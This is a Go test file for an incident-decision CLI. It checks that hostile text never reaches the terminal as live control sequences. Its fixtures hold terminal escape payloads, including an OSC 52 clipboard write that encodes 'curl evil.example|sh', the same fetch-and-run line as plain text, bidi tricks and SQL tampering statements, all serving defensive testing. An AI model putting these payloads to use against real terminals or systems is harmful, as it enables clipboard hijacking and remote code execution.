package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/signoff/signoff/db"
	"github.com/signoff/signoff/model"
	"github.com/signoff/signoff/tui/safetext"
)

// hostile is what an attacker writes into every free-text field: each kind
// of sequence a terminal acts on, and each kind of character that hides or
// reorders text.
const hostile = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07" + // OSC 52: set the clipboard
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\" + // OSC 8: a link
	"\x1b]0;owned\x07\x1b]2;owned\x1b\\" + // OSC 0 and 2: the window title
	"\x1b[2J\x1b[31;1mred\x1b[0m" + // CSI: clear, colour
	"\u009b31m\u009d0;c1 title\u009c" + // C1 CSI, OSC and ST
	"\u202egpj.exe\u2066\u200b\u2060\ufeff" + // bidi and zero-width
	"\U000E0041\U000E0042" + // tag characters
	"\ufff9\ufffa\ufffb" + // interlinear annotation
	"\x7f\x08\r\x00\x07" + // DEL, backspace, CR, NUL, BEL
	"\x1b]0;unterminated " // an OSC that never ends

// Ids refuse controls, spaces and format characters, but not every
// character that shows as nothing: these are valid ids that safetext still
// marks, so an id printed without it reads as another.
const (
	hostileWho      = "al\u3164ice" // Hangul filler
	hostileStep     = "S1\u115f"    // Hangul choseong filler
	hostileEvidence = "EV-1\u034f"  // combining grapheme joiner
	hostileChange   = "ST-1\uffa0"  // halfwidth Hangul filler
	hostileStepRef  = "INC-666/" + hostileStep
)

// terminalSafe finds the first thing in out that a terminal would act on
// or that hides text: anything but printable characters, newlines and tabs.
func terminalSafe(out string) error {
	if !utf8.ValidString(out) {
		return fmt.Errorf("the output is not valid UTF-8 (a stray 0x9B byte is CSI to some terminals)")
	}
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f):
			return fmt.Errorf("control character %U at byte %d: %q", r, i, around(out, i))
		case unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Zl, r) || unicode.Is(unicode.Zp, r) || (r >= 0xE0000 && r <= 0xE007F):
			return fmt.Errorf("invisible character %U at byte %d: %q", r, i, around(out, i))
		case r != utf8.RuneError && safetext.Hidden(r):
			return fmt.Errorf("%U, which safetext marks, at byte %d: %q", r, i, around(out, i))
		}
	}
	return nil
}

func around(s string, i int) string { return s[max(0, i-30):min(len(s), i+30)] }

// hostileDoc is an open incident whose every free text is hostile: a
// decided step (for findings, metrics, the report), a pending suggestion
// to approve (for decisions) and one to train on.
func hostileDoc() model.Document {
	t0 := time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
	h := hostile
	conf := 0.7
	action := &model.Action{Type: "curl evil.example|sh " + h, Target: "web-1", Detail: "detail " + h}
	return model.Document{
		Format: model.FormatV1,
		Incident: model.Incident{ID: "INC-666", Title: "title " + h, Severity: model.Sev1, Status: model.StatusOpen,
			OpenedAt: t0, Commander: hostileWho, Summary: "summary " + h},
		People: []model.Person{{ID: hostileWho, Name: "Alice " + h, Role: "role " + h, Team: "team " + h, Authority: model.AuthorityHigh}},
		Agents: []model.Agent{{ID: "agent-x", Name: "agent " + h, Model: "model " + h, Version: "v " + h, Role: model.RoleRemediation, Operator: hostileWho}},
		Assets: []model.Asset{{ID: "web-1", Kind: model.AssetKind("host"), Privileged: true, Owner: hostileWho, Summary: "asset " + h},
			{ID: "web-2", Kind: model.AssetKind("host"), Summary: "asset " + h}},
		Evidence: []model.Evidence{{ID: hostileEvidence, Kind: "log " + h, Asset: "web-1", CollectedAt: t0.Add(time.Minute),
			CollectedBy: "collector " + h, URI: "https://x/" + h, Summary: "evidence " + h}},
		Events: []model.Event{
			{ID: "E1", At: t0, Kind: model.KindAlert, Source: "source " + h, Summary: "alert " + h, Detail: "detail " + h, Evidence: []string{hostileEvidence}},
			{ID: hostileStep, At: t0.Add(2 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x", Action: action, Confidence: &conf,
				ConfidenceCue: "cue " + h, Rank: 1, Rationale: "because " + h, RawOutput: "raw " + h, Summary: "suggestion " + h,
				Alternatives: []model.Action{{Type: "alt " + h, Target: "web-1", Detail: h}}, Evidence: []string{hostileEvidence}},
			{ID: "D1", At: t0.Add(3 * time.Minute), Kind: model.KindDecision, Suggestion: hostileStep, Owner: hostileWho,
				Outcome: model.OutcomeModified, Action: &model.Action{Type: action.Type, Target: "web-1", Detail: "changed " + h},
				Rationale: "decided " + h, EvidenceReviewed: []string{hostileEvidence}, Summary: "decision " + h,
				AlternativesRejected: []model.RejectedAlternative{{Action: model.Action{Type: "rm " + h}, Reason: "reason " + h}},
				Approvals:            []model.Approval{{By: hostileWho, At: t0.Add(3 * time.Minute)}}},
			{ID: "X1", At: t0.Add(4 * time.Minute), Kind: model.KindExecution, Decision: "D1", Actor: "runner " + h,
				Result: "succeeded", Summary: "ran " + h, Detail: h},
			{ID: "N1", At: t0.Add(5 * time.Minute), Kind: model.KindNote, Actor: hostileWho, Summary: "note " + h},
			{ID: "S2", At: t0.Add(6 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x", Confidence: &conf,
				Action:        &model.Action{Type: action.Type, Target: "web-2", Detail: action.Detail},
				ConfidenceCue: "cue " + h, Rationale: "again " + h},
			{ID: "S3", At: t0.Add(7 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x",
				Action: &model.Action{Type: "still pending " + h, Target: "web-2", Detail: h}, Rationale: "left " + h},
		},
		Reviews: []model.Review{{Subject: hostileStep, Reviewer: hostileWho, At: t0.Add(time.Hour), Verdict: model.VerdictModified,
			OutcomeChanged: "yes", AICorrect: "partial", Note: "note " + h}},
		StatusChanges: []model.StatusChange{{ID: hostileChange, Status: model.StatusContained, By: hostileWho, At: t0.Add(8 * time.Minute),
			Rationale: "imported " + h}},
	}
}

// TestNoCommandLetsHostileTextReachTheTerminal imports one hostile incident
// under a hostile file name, writes to it through every writing command,
// and runs every command in every output format over it: nothing any of
// them prints, on stdout or stderr, may be acted on by a terminal.
func TestNoCommandLetsHostileTextReachTheTerminal(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "signoff.db")
	data, err := json.MarshalIndent(hostileDoc(), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "incident\x1b]0;owned\x07\u202e.json")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	cp := filepath.Join(dir, "cp.txt")
	type step struct {
		args  []string
		codes []int // what it may exit with
	}
	request := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	gateArgs := func(from string) []string {
		return []string{"gate", "--incident", "INC-666", "--agent", "agent-x", "--from", from, "--map", gateMap, "--wait", "1s"}
	}
	writes := []step{
		{[]string{"import", file}, []int{0}},
		{[]string{"--as", hostileWho, "approve", "INC-666/S2", "--rationale", "ok " + hostile, "--action-detail", "mine " + hostile}, []int{0}},
		{[]string{"--as", hostileWho, "annotate", hostileStepRef, "--verdict", "ignored", "--note", "again " + hostile}, []int{0}},
		{[]string{"--as", hostileWho, "status", "INC-666", "open", "--rationale", "reopened " + hostile}, []int{0}},
		{[]string{"--as", hostileWho, "handoff", "INC-666", "--note", "watch " + hostile}, []int{0}},
		{[]string{"--as", hostileWho, "claim", "INC-666/S3"}, []int{0}},
	}
	for _, s := range writes {
		r := signoff(t, path, "", s.args...)
		if r.code != s.codes[0] {
			t.Fatalf("%s: exit %d: %s", s.args[0], r.code, r.stderr)
		}
		for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
			if err := terminalSafe(out); err != nil {
				t.Errorf("%q %s: %v", s.args, name, err)
			}
		}
	}
	trainHostile(t, path)
	if r := signoff(t, path, "", "checkpoint"); r.code != 0 || os.WriteFile(cp, []byte(r.stdout), 0o600) != nil {
		t.Fatalf("checkpoint: %s", r.stderr)
	}
	if r := signoff(t, path, "", "decisions"); !strings.Contains(r.stdout, `"decision":"D-S2"`) {
		t.Fatalf("the approval of S2 is not a final decision: %q %q", r.stdout, r.stderr)
	}
	reads := []step{
		{[]string{"incidents"}, []int{0}},
		{[]string{"incidents", "--json"}, []int{0}},
		{[]string{"export", "INC-666"}, []int{0}},
		{[]string{"export", "INC-666", "--format", "timesketch"}, []int{0}},
		{[]string{"export", "INC-666", "--format", "ocsf"}, []int{0}},
		{[]string{"pending"}, []int{0}},
		{[]string{"pending", "--json"}, []int{0}},
		{[]string{"status", "INC-666"}, []int{0}},
		{[]string{"status", "INC-666", "--json"}, []int{0}},
		{[]string{"handoff", "INC-666"}, []int{0}},
		{[]string{"--as", hostileWho, "claim", "INC-666/S3", "--release"}, []int{0}},
		{[]string{"--as", hostileWho, "status", "INC-666", "closed", "--rationale", hostile}, []int{1, 2}},
		{[]string{"--as", hostileWho, "handoff", "INC-666", "--note", "bad \xff " + hostile}, []int{2}},
		{[]string{"verify", "--signers", file}, []int{0, 2}},

		{[]string{"findings", "INC-666"}, []int{0, 1}},
		{[]string{"findings", "INC-666", "--json"}, []int{0, 1}},
		{[]string{"report", "INC-666"}, []int{0}},
		{[]string{"report", "INC-666", "--format", "json"}, []int{0}},
		{[]string{"decisions"}, []int{0}},
		{[]string{"decisions", "--since", "1"}, []int{0}},
		{[]string{"verify"}, []int{0}},
		{[]string{"verify", "--checkpoint", cp}, []int{0}},
		{[]string{"checkpoint"}, []int{0}},
		{[]string{"train", "--results"}, []int{0}},
		{[]string{"train", "--results", "INC-666", "--json"}, []int{0}},
		{[]string{"--as", hostileWho, "approve", "INC-666/S2", "--rationale", hostile}, []int{2}},
		{[]string{"review", "INC-666\x1b]0;x\x07"}, []int{2}},
		{[]string{"findings", "INC-\u202e666"}, []int{2}},
	}
	for _, by := range []string{"agent", "action", "month"} {
		for _, format := range []string{"table", "json", "csv"} {
			reads = append(reads, step{[]string{"metrics", "--by", by, "--format", format}, []int{0}})
		}
	}
	// The gate: a hostile call nobody decides in time, in two formats, and
	// a call from an agent it cannot record (refused, and denied); each
	// reads its request on stdin.
	stdin := map[string]string{}
	gates := []struct {
		step
		request string
	}{
		{step{gateArgs("claude-code"), []int{0}}, request(map[string]any{"hook_event_name": "PreToolUse", "tool_name": "Bash" + hostile,
			"tool_input": map[string]any{"command": hostile}, "tool_use_id": "toolu_h1"})},
		{step{gateArgs("openai-mcp"), []int{0}}, request(map[string]any{"id": "mcpr_h2", "type": "mcp_approval_request",
			"arguments": request(map[string]string{"host": "web-1", "reason": hostile}), "name": "isolate_host" + hostile, "server_label": "edr" + hostile})},
		{step{[]string{"gate", "--incident", "INC-666", "--agent", "nobody " + hostile, "--from", "claude-code"}, []int{2}},
			request(map[string]any{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": map[string]any{"command": "id"}, "tool_use_id": "toolu_h3"})},
	}
	for _, g := range gates {
		reads = append(reads, g.step)
		stdin[strings.Join(g.args, " ")] = g.request
	}
	for _, s := range reads {
		t.Run(strings.Join(s.args, " "), func(t *testing.T) {
			r := signoff(t, path, stdin[strings.Join(s.args, " ")], s.args...)
			ok := false
			for _, c := range s.codes {
				ok = ok || r.code == c
			}
			if !ok {
				t.Errorf("exit %d, want one of %v: %s", r.code, s.codes, r.stderr)
			}
			for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
				if err := terminalSafe(out); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
		})
	}
}

// trainHostile records a training run with a hostile rationale, as the
// training screen would.
func trainHostile(t *testing.T, path string) {
	t.Helper()
	ctx := context.Background()
	s, err := db.Open(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	run, err := s.StartTrainingRun(ctx, model.TrainingRun{Trainee: hostileWho, Incident: "INC-666", StartedAt: at, Hindsight: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RecordTrainingChoice(ctx, run.ID, model.TrainingChoice{Subject: hostileStep, Outcome: model.OutcomeModified,
		Action: &model.Action{Type: "x " + hostile, Detail: hostile}, Rationale: "trainee " + hostile, At: at}); err != nil {
		t.Fatal(err)
	}
	if err := s.EndTrainingRun(ctx, run.ID, at.Add(time.Minute), true); err != nil {
		t.Fatal(err)
	}
}

// TestATamperedRecordReachesTheTerminalOnlyAsText changes the hostile
// record as someone with the database file could: values the import
// checks against a list (statuses, outcomes, verdicts, kinds) and the
// derived tables' copies of ids, names and months get escape sequences.
// Every reader still says what it read, as safe text.
func TestATamperedRecordReachesTheTerminalOnlyAsText(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "signoff.db")
	data, err := json.Marshal(hostileDoc())
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "incident.json")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"import", file}, {"--as", hostileWho, "annotate", "INC-666/S2", "--verdict", "followed"},
		{"--as", hostileWho, "handoff", "INC-666", "--note", "n"}, {"--as", hostileWho, "claim", "INC-666/S3"}} {
		if r := signoff(t, path, "", args...); r.code != 0 {
			t.Fatalf("%q: exit %d: %s", args, r.code, r.stderr)
		}
	}
	trainHostile(t, path)
	const inJSON = `\u001b]0;owned\u0007\u202e` // as the payload's JSON spells it
	const inSQL = `char(27)||']0;owned'||char(7)`
	var stmts []string
	for _, kv := range []string{"status:open", "status:contained", "severity:sev1", "outcome:modified", "verdict:modified",
		"verdict:followed", "authority:high", "role:remediation", "result:succeeded", "kind:alert", "kind:suggestion",
		"kind:host", "outcome_changed:yes", "ai_correct:partial"} {
		k, v, _ := strings.Cut(kv, ":")
		stmts = append(stmts, fmt.Sprintf(`UPDATE chain SET payload = replace(payload, '"%s":"%s"', '"%s":"%s%s"')`, k, v, k, v, inJSON))
	}
	for table, columns := range map[string][]string{
		"events":           {"kind", "actor", "summary", "action", "target"},
		"pending_items":    {"agent", "action", "target", "detail"},
		"suggestion_facts": {"month", "agent", "action", "state"},
		"suggestion_cells": {"agent", "action", "month"},
		"queue_claims":     {"person", "suggestion"},
		"handoff_notes":    {"person"},
		"status_changes":   {"id", "status", "person"},
		"reviews":          {"verdict", "reviewer"},
		"training_runs":    {"trainee", "authority"},
		"training_choices": {"outcome", "action", "rationale"},
	} {
		var set []string
		for _, c := range columns {
			set = append(set, c+" = "+c+"||"+inSQL)
		}
		stmts = append(stmts, "UPDATE "+table+" SET "+strings.Join(set, ", "))
	}
	tamperDB(t, path, stmts...)
	reads := [][]string{
		{"incidents"}, {"incidents", "--json"}, {"pending"}, {"pending", "--json"}, {"status", "INC-666"},
		{"status", "INC-666", "--json"}, {"export", "INC-666"}, {"findings", "INC-666"}, {"findings", "INC-666", "--json"},
		{"report", "INC-666"}, {"report", "INC-666", "--format", "json"}, {"handoff", "INC-666"}, {"decisions"},
		{"verify", "--all"}, {"train", "--results"}, {"train", "--results", "INC-666", "--json"},
		{"--as", hostileWho, "claim", "INC-666/S3", "--release"},
	}
	for _, by := range []string{"agent", "action", "month"} {
		for _, format := range []string{"table", "json", "csv"} {
			reads = append(reads, []string{"metrics", "--by", by, "--format", format})
		}
	}
	for _, args := range reads {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			r := signoff(t, path, "", args...)
			for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
				if err := terminalSafe(out); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
		})
	}
	// The tampered status is shown, made safe, not left out.
	if r := signoff(t, path, "", "status", "INC-666"); !strings.Contains(r.stdout, "imported as open␛]0;owned␇") {
		t.Errorf("status does not show the status as recorded: %q", r.stdout)
	}
}
